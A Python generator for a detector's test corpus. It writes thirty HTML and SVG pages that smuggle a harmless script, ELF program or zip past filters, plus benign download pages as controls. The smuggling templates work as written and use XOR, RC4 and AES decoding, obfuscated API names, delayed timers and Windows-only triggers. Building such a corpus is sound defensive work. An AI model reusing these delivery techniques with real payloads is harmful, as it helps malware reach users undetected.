#!/usr/bin/env python3
# Writes the page corpus of detonate-pages.sh: smuggling pages in distinct styles, each handing
# over a harmless payload (a shell script, a tiny ELF program or a zip holding the script), and
# benign pages with script that build files users do download (CSV, JSON, text, PNG). Prints
# one line per smuggling page: "NAME ATTACK SHA256" (the payload's).
#   detonate-pages.py OUTDIR-MALICIOUS OUTDIR-BENIGN ELF-PROGRAM
import base64, hashlib, io, os, random, subprocess, sys, zipfile

mal, ben, elf_path = sys.argv[1:4]
rng = random.Random(12)
SCRIPT = b"#!/bin/sh\necho 'airlock smuggling test payload: harmless'\n"
ELF = open(elf_path, "rb").read()
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("setup.sh", SCRIPT)
ZIP = buf.getvalue()
manifest = []


def b64(b):
    return base64.b64encode(b).decode()


def split_literals(s, n=7):
    step = max(1, len(s) // n)
    return "+".join('"%s"' % s[i:i + step] for i in range(0, len(s), step))


def page(body, title="Document"):
    return ("<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>%s</title></head>\n"
            "<body><p>Please wait while your document is prepared&hellip;</p>\n%s\n</body></html>\n"
            % (title, body))


# A download of the Uint8Array in variable u8 as NAME, written plainly (the styles below vary
# how u8 comes to be and how it leaves).
def save(name, var="u8"):
    return ('var b = new Blob([%s], {type: "application/octet-stream"});'
            'var a = document.createElement("a"); a.href = URL.createObjectURL(b);'
            'a.download = "%s"; document.body.appendChild(a); a.click();' % (var, name))


def from_b64(s=None, expr=None):
    return ('var s = atob(%s); var u8 = new Uint8Array(s.length);'
            'for (var i = 0; i < s.length; i++) u8[i] = s.charCodeAt(i);' % (expr or split_literals(s)))


def add(name, html, payload, attack="T1027.006"):
    with open(os.path.join(mal, name), "w") as f:
        f.write(html)
    manifest.append((name, attack, hashlib.sha256(payload).hexdigest()))


def rc4(key, data):
    S = list(range(256))
    j = 0
    for i in range(256):
        j = (j + S[i] + key[i % len(key)]) % 256
        S[i], S[j] = S[j], S[i]
    i = j = 0
    out = bytearray()
    for c in data:
        i = (i + 1) % 256
        j = (j + S[i]) % 256
        S[i], S[j] = S[j], S[i]
        out.append(c ^ S[(S[i] + S[j]) % 256])
    return bytes(out)


P = SCRIPT
# 1. API names written as concatenations, base64 split across literals (the page).
add("concat-api.html", page(
    '<script>var w = window, s = w["at" + "ob"](%s), u8 = new Uint8Array(s.length);'
    'for (var i = 0; i < s.length; i++) u8[i] = s.charCodeAt(i);'
    'var b = new w["Bl" + "ob"]([u8], {type: "application/octet-stream"});'
    'var a = document.createElement("a"); a.href = w["U" + "RL"]["createObject" + "URL"](b);'
    'a["down" + "load"] = "invoice.sh"; document.body.appendChild(a); a["cl" + "ick"]();</script>'
    % split_literals(b64(P), 12)), P)
# 2. base64 split across many literals in an array joined at run time
parts = [b64(P)[i:i + 6] for i in range(0, len(b64(P)), 6)]
add("b64-array-join.html", page(
    "<script>var p = %r; var s = atob(p.join(\"\")); var u8 = new Uint8Array(s.length);"
    "for (var i = 0; i < s.length; i++) u8[i] = s.charCodeAt(i); %s</script>"
    % (parts, save("report.sh"))), P)
# 3. char-code array
add("charcodes.html", page("<script>var u8 = new Uint8Array(%s); %s</script>"
                           % (list(P), save("update.sh"))), P)
# 4. XOR decoder
key = 0x5a
add("xor.html", page("<script>var e = %s, u8 = new Uint8Array(e.length);"
                     "for (var i = 0; i < e.length; i++) u8[i] = e[i] ^ %d; %s</script>"
                     % ([c ^ key for c in P], key, save("statement.sh"))), P)
# 5. hand-written base64 decoder, no atob
add("handb64.html", page(r"""<script>
function dec(s) { var t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = [], a = 0, n = 0;
  for (var i = 0; i < s.length; i++) { var v = t.indexOf(s[i]); if (v < 0) continue;
    a = (a << 6) | v; n += 6; if (n >= 8) { n -= 8; o.push((a >> n) & 255); } }
  return new Uint8Array(o); }
var u8 = dec("%s"); %s</script>""" % (b64(P), save("scan.sh"))), P)
# 6. RC4 with the key in the page
k = b"s3cr3t-k3y"
add("rc4.html", page(r"""<script>
function rc4(k, d) { var S = [], j = 0, x, o = new Uint8Array(d.length);
  for (var i = 0; i < 256; i++) S[i] = i;
  for (i = 0; i < 256; i++) { j = (j + S[i] + k.charCodeAt(i %% k.length)) %% 256; x = S[i]; S[i] = S[j]; S[j] = x; }
  i = j = 0;
  for (var y = 0; y < d.length; y++) { i = (i + 1) %% 256; j = (j + S[i]) %% 256; x = S[i]; S[i] = S[j]; S[j] = x;
    o[y] = d[y] ^ S[(S[i] + S[j]) %% 256]; }
  return o; }
var raw = atob("%s"), d = new Uint8Array(raw.length); for (var q = 0; q < raw.length; q++) d[q] = raw.charCodeAt(q);
var u8 = rc4("%s", d); %s</script>""" % (b64(rc4(k, P)), k.decode(), save("doc.sh"))), P)
# 7. AES-CBC through WebCrypto, key and IV in the page
aes_key, iv = bytes(range(32)), bytes(range(16, 32))
ct = subprocess.run(["openssl", "enc", "-aes-256-cbc", "-K", aes_key.hex(), "-iv", iv.hex()],
                    input=ZIP, capture_output=True, check=True).stdout
add("aes-webcrypto.html", page(r"""<script>
function u(s) { var r = atob(s), o = new Uint8Array(r.length); for (var i = 0; i < r.length; i++) o[i] = r.charCodeAt(i); return o; }
crypto.subtle.importKey("raw", u("%s"), {name: "AES-CBC"}, false, ["decrypt"]).then(function (k) {
  return crypto.subtle.decrypt({name: "AES-CBC", iv: u("%s")}, k, u("%s")); }).then(function (p) {
  var u8 = new Uint8Array(p); %s });</script>""" % (b64(aes_key), b64(iv), b64(ct), save("archive.zip"))), ZIP)
# 8. rotated string array (the javascript-obfuscator style)
strs = ["createElement", "a", "createObjectURL", "download", "click", "appendChild", "body",
        "application/octet-stream", "invoice.zip", b64(ZIP)]
rot = 3
rotated = strs[rot:] + strs[:rot]
add("rotated-array.html", page(r"""<script>
var _0x4f2a = %r;
(function (a, n) { while (n--) a.unshift(a.pop()); })(_0x4f2a, %d);
function _0x1b(i) { return _0x4f2a[i]; }
var s = atob(_0x1b(9)), u8 = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) u8[i] = s.charCodeAt(i);
var b = new window["Blob"]([u8], {type: _0x1b(7)}), a = document[_0x1b(0)](_0x1b(1));
a.href = window["URL"][_0x1b(2)](b); a[_0x1b(3)] = _0x1b(8); document[_0x1b(6)][_0x1b(5)](a); a[_0x1b(4)]();
</script>""" % (rotated, rot)), ZIP)
# 9. document.write(atob(...))
inner = "<script>%s %s</script>" % (from_b64(b64(P)), save("written.sh"))
add("document-write.html", page('<script>document.write(atob("%s"));</script>' % b64(inner.encode())), P)
# 10. msSaveOrOpenBlob (the Internet Explorer branch only)
add("mssave.html", page("<script>%s var b = new Blob([u8]);"
                        "if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(b, \"ie-update.sh\");"
                        "</script>" % from_b64(b64(P))), P)
# 11. location = blobURL, no click
add("location-blob.html", page("<script>%s location.href = URL.createObjectURL(new Blob([u8], "
                               "{type: \"application/octet-stream\"}));</script>" % from_b64(b64(P))), P)
# 12. iframe srcdoc
add("iframe-srcdoc.html", page("<iframe style=\"display:none\" srcdoc=\"%s\"></iframe>"
                               % ("<script>%s %s</script>" % (from_b64(b64(P)), save("frame.sh")))
                               .replace("&", "&amp;").replace('"', "&quot;")), P)
# 13. SVG with script
add("invoice.svg", """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><text x="10" y="40">Invoice</text>
<script type="application/ecmascript"><![CDATA[
%s var b = new Blob([u8], {type: "application/octet-stream"});
var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
a.href = URL.createObjectURL(b); a.download = "invoice.sh"; document.documentElement.appendChild(a); a.click();
]]></script></svg>
""" % from_b64(b64(P)), P, "T1027.017")
# 14. SVG whose onload attribute fetches a data: URL
add("onload.svg", """<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"
onload="fetch('data:application/zip;base64,%s').then(function (r) { return r.blob(); }).then(function (b) { window.open(URL.createObjectURL(b)); })">
<rect width="300" height="100" fill="#eee"/></svg>
""" % b64(ZIP), ZIP, "T1027.017")
# 15. payload only after a click
add("after-click.html", page("<button id=go style=\"position:absolute;left:40px;top:60px;width:220px;height:60px\">"
                             "View document</button><script>document.getElementById(\"go\").onclick = function () {"
                             "%s %s };</script>" % (from_b64(b64(P)), save("clicked.sh"))), P)
# 16. payload after a 45 s timer
add("timer-45s.html", page("<script>setTimeout(function () { %s %s }, 45000);</script>"
                           % (from_b64(b64(ELF)), save("late-update"))), ELF)
# 17. payload only for a Windows user agent
add("windows-only.html", page("<script>if (/Windows NT/.test(navigator.userAgent) && navigator.platform == \"Win32\") {"
                              "%s %s }</script>" % (from_b64(b64(P)), save("win-setup.sh"))), P)
# 18. fetch of a data: URL
add("fetch-data.html", page("<script>fetch(\"data:application/octet-stream;base64,%s\")"
                            ".then(function (r) { return r.arrayBuffer(); }).then(function (ab) {"
                            "var u8 = new Uint8Array(ab); %s });</script>" % (b64(ELF), save("agent"))), ELF)
# 19. a zip payload, plain
add("zip-plain.html", page("<script>%s %s</script>" % (from_b64(b64(ZIP)), save("Documents.zip"))), ZIP)
# 20. an ELF program payload, through the File constructor and window.open
add("file-window-open.html", page("<script>%s var f = new File([u8], \"tool\", {type: \"application/octet-stream\"});"
                                  "window.open(URL.createObjectURL(f));</script>" % from_b64(b64(ELF))), ELF)
# 21. a data: URL anchor with a download attribute, no Blob at all
add("data-anchor.html", page("<script>var a = document.createElement(\"a\");"
                             "a.href = \"data:application/octet-stream;base64,\" + %s; a.download = \"setup.sh\";"
                             "document.body.appendChild(a); a.click();</script>" % split_literals(b64(P))), P)
# 22. reversed string evaluated
code = "%s %s" % (from_b64(b64(P)), save("reversed.sh"))
add("eval-reversed.html", page("<script>eval(%r.split(\"\").reverse().join(\"\"));</script>" % code[::-1]), P)
# 23. payload assembled across interval ticks, 10 s apart
chunks = [b64(ZIP)[i:i + 64] for i in range(0, len(b64(ZIP)), 64)]
add("interval-chunks.html", page("<script>var c = %r, got = [], t = setInterval(function () {"
                                 "got.push(c[got.length]); if (got.length == c.length) { clearInterval(t);"
                                 "%s %s } }, 10000);</script>" % (chunks, from_b64(expr='got.join("")'),
                                                                  save("bundle.zip"))), ZIP)
# 24. Blob.slice cuts the payload out of junk
junk = bytes(rng.randrange(256) for _ in range(300))
add("blob-slice.html", page("<script>%s var big = new Blob([u8]); var b = big.slice(300, %d);"
                            "var a = document.createElement(\"a\"); a.href = URL.createObjectURL(b);"
                            "a.download = \"sliced.sh\"; a.click();</script>"
                            % (from_b64(b64(junk + P + junk)), 300 + len(P))), P)
# 25. a click event dispatched on an anchor outside the document
add("dispatch-detached.html", page("<script>%s var a = document.createElement(\"a\");"
                                   "a.href = URL.createObjectURL(new Blob([u8])); a.download = \"detached.sh\";"
                                   "a.dispatchEvent(new MouseEvent(\"click\"));</script>" % from_b64(b64(P))), P)
# 26. Caesar-shifted char codes through String.fromCharCode
shift = 7
add("caesar.html", page("<script>var e = %r, s = \"\"; for (var i = 0; i < e.length; i++)"
                        "s += String.fromCharCode(e[i] - %d); var u8 = new Uint8Array(s.length);"
                        "for (i = 0; i < s.length; i++) u8[i] = s.charCodeAt(i); %s</script>"
                        % ([c + shift for c in P], shift, save("shifted.sh"))), P)
# 27. hex string decoded on DOMContentLoaded
add("hex-domcontentloaded.html", page("<script>document.addEventListener(\"DOMContentLoaded\", function () {"
                                      "var h = \"%s\", u8 = new Uint8Array(h.length / 2);"
                                      "for (var i = 0; i < u8.length; i++) u8[i] = parseInt(h.substr(2 * i, 2), 16); %s });</script>"
                                      % (ZIP.hex(), save("hex.zip"))), ZIP)
# 28. payload hidden in the text of a hidden element
add("hidden-element.html", page("<div id=d hidden>%s</div><script>%s</script>"
                                % (b64(P), from_b64(expr='document.getElementById("d").textContent')
                                   + save("hidden.sh"))), P)
# 29. the global object reached through Function, location assigned by bracket
add("function-global.html", page("<script>var g = new Function(\"return this\")();%s"
                                 "g[\"loc\" + \"ation\"][\"hr\" + \"ef\"] = g[\"URL\"][\"createObjectURL\"](new g[\"Blob\"]([u8]));</script>"
                                 % from_b64(b64(ELF))), ELF)
# 30. ArrayBuffer written through a DataView
add("dataview.html", page("<script>var v = %r, ab = new ArrayBuffer(v.length), dv = new DataView(ab);"
                          "for (var i = 0; i < v.length; i++) dv.setUint8(i, v[i]); var u8 = new Uint8Array(ab); %s</script>"
                          % (list(P), save("dv.sh"))), P)

for name, attack, sha in manifest:
    print(name, attack, sha)

# Benign pages: script that builds what users do download.
BENIGN = {
    "csv-export.html": """<table id=t><tr><th>Item</th><th>Price</th></tr><tr><td>Bread</td><td>2.10</td></tr>
<tr><td>Milk</td><td>0.99</td></tr></table><script>
var rows = [].map.call(document.querySelectorAll("#t tr"), function (r) {
  return [].map.call(r.children, function (c) { return '"' + c.textContent + '"'; }).join(","); });
var b = new Blob([rows.join("\\n") + "\\n"], {type: "text/csv"});
var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "prices.csv"; a.click();
</script>""",
    "csv-mssave.html": """<script>var csv = "name,qty\\napples,3\\npears,5\\n", b = new Blob([csv], {type: "text/csv;charset=utf-8"});
if (navigator.msSaveOrOpenBlob) navigator.msSaveOrOpenBlob(b, "stock.csv");
else { var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "stock.csv"; a.click(); }</script>""",
    "json-export.html": """<script>var data = {user: "ann", settings: {theme: "dark", items: [1, 2, 3]}};
var b = new Blob([JSON.stringify(data, null, 2)], {type: "application/json"});
var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "settings.json";
document.body.appendChild(a); a.click();</script>""",
    "notes-text.html": """<textarea id=n>Meeting notes: budget approved.</textarea><button id=s>Save</button>
<script>document.getElementById("s").onclick = function () {
var b = new Blob([document.getElementById("n").value], {type: "text/plain"});
var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "notes.txt"; a.click(); };</script>""",
    "canvas-png.html": """<canvas id=c width=120 height=60></canvas><script>
var c = document.getElementById("c"), x = c.getContext("2d"); x.fillStyle = "#36c"; x.fillRect(0, 0, 120, 60);
x.fillStyle = "#fff"; x.fillText("chart", 40, 35);
c.toBlob(function (b) { var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "chart.png"; a.click(); });
</script>""",
    "worker-blob.html": """<p id=o></p><script>
var src = "onmessage = function (e) { var s = 0; for (var i = 0; i < e.data; i++) s += i; postMessage(s); };";
var w = new Worker(URL.createObjectURL(new Blob([src], {type: "text/javascript"})));
w.onmessage = function (e) { document.getElementById("o").textContent = "sum " + e.data; }; w.postMessage(100000);
</script>""",
    "sortable-table.html": "<table id=t>%s</table><script>" % "".join(
        "<tr><td>%d</td><td>row %d</td></tr>" % (rng.randrange(1000), i) for i in range(200)) +
        """var t = document.getElementById("t"), rows = [].slice.call(t.rows);
rows.sort(function (a, b) { return a.cells[0].textContent - b.cells[0].textContent; });
rows.forEach(function (r) { t.appendChild(r); });
setInterval(function () { document.title = "sorted " + rows.length; }, 1000);</script>""",
    "login-form.html": """<div id=box></div><script>
var f = document.createElement("form"); f.action = "/login"; f.method = "post";
f.innerHTML = '<label>User <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button>';
document.getElementById("box").appendChild(f);</script>""",
    "clock-dom.html": """<div id=c></div><script>
function tick() { var d = new Date(), e = document.getElementById("c"); e.textContent = d.toISOString();
  for (var i = 0; i < 50; i++) { var s = document.createElement("span"); s.textContent = i; e.appendChild(s); } }
setInterval(tick, 500); tick();</script>""",
    "ics-calendar.html": """<script>var ics = "BEGIN:VCALENDAR\\nVERSION:2.0\\nBEGIN:VEVENT\\nSUMMARY:Team lunch\\nDTSTART:20261210T120000Z\\nEND:VEVENT\\nEND:VCALENDAR\\n";
var a = document.createElement("a"); a.href = "data:text/calendar;charset=utf-8," + encodeURIComponent(ics);
a.download = "lunch.ics"; document.body.appendChild(a); a.click();</script>""",
}
for name, body in BENIGN.items():
    with open(os.path.join(ben, name), "w") as f:
        f.write("<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>%s</title></head><body>\n%s\n</body></html>\n"
                % (name, body))

# A page that only draws a remote picture: a network attempt, nothing else.
with open(os.path.join(ben, "remote-logo.html"), "w") as f:
    f.write("<!DOCTYPE html>\n<html><body><img src=\"http://logo.example.invalid/logo.png\">"
            "<script>document.title = \"logo\";</script></body></html>\n")
